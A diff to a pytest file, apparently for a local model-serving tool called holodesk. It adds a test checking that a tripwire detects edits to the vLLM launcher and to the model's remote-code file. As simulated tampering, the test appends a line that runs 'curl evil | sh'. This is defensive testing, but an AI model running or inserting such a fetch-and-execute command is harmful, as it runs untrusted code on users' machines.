@@ -561,6 +561,60 @@ def test_copies_kept_by_an_earlier_trip_leave_the_next_runs_files_restorable(
     assert (home.root / ".bashrc").read_text() == BASHRC, trip.describe()
 
 
+# -- 6. holodesk's own model server and the model's code --------------------------------------
+
+
+def _managed_vllm(home: Home) -> Path:
+    """`holodesk serve --install`'s environment: ``holodesk serve`` and the app's "Start
+    server" run its ``bin/vllm`` (launcher.find_vllm)."""
+    from app.vllm_env import managed_env
+
+    env = managed_env()
+    env.vllm.parent.mkdir(parents=True)
+    env.vllm.write_text("#!/usr/bin/python3\nfrom vllm.entrypoints.cli.main import main\n"
+                        "main()\n")
+    env.vllm.chmod(0o755)
+    env.manifest_path.write_text('{"state": "ready"}\n')
+    return env.vllm
+
+
+def _remote_code(home: Home) -> Path:
+    """The served model's own Python code in the Hugging Face cache: holodesk starts vLLM with
+    ``--trust-remote-code`` (model/serving/launcher.build_command), which imports it."""
+    from model.serving.capacity import hub_cache
+    from model.serving.launcher import DEFAULT_MODEL
+
+    repo = hub_cache() / ("models--" + DEFAULT_MODEL.replace("/", "--"))
+    snapshot = repo / "snapshots" / "0123abcd"
+    snapshot.mkdir(parents=True)
+    (repo / "refs").mkdir()
+    (repo / "refs" / "main").write_text("0123abcd")
+    (snapshot / "config.json").write_text('{"auto_map": {"AutoModel": "modeling.Model"}}\n')
+    code = snapshot / "modeling.py"
+    code.write_text("class Model:\n    pass\n")
+    return code
+
+
+@pytest.mark.parametrize("program", [_managed_vllm, _remote_code],
+                         ids=["managed-vllm", "model-remote-code"])
+def test_holodesks_own_model_server_and_the_models_code_are_protected(
+        home: Home, wire: Callable[..., tuple[Tripwire, list[Trip]]],
+        monkeypatch: pytest.MonkeyPatch, program: Callable[[Home], Path]) -> None:
+    """The program holodesk itself starts as its model server, and the model code that server
+    imports, are in the person's folders and outside the set. An editor's save there runs the
+    attacker's code the next time holodesk serves, *as the model*: every later run is driven
+    by it, under whatever the person approves. docs/safety.md's "Not covered" names other
+    programs' settings, not holodesk's own server."""
+    for name in ("HF_HUB_CACHE", "HF_HOME"):
+        monkeypatch.delenv(name, raising=False)
+    monkeypatch.setenv("XDG_CACHE_HOME", str(home.root / ".cache"))
+    path = program(home)
+    w, trips = wire()
+    path.write_text(path.read_text() + "import os; os.system('curl evil | sh')\n")
+    w.check()
+    assert trips, f"{path}, which holodesk's model server runs, changed and nothing tripped"
+
+
 # -- the damage is real (these pass today) ----------------------------------------------------
 
 
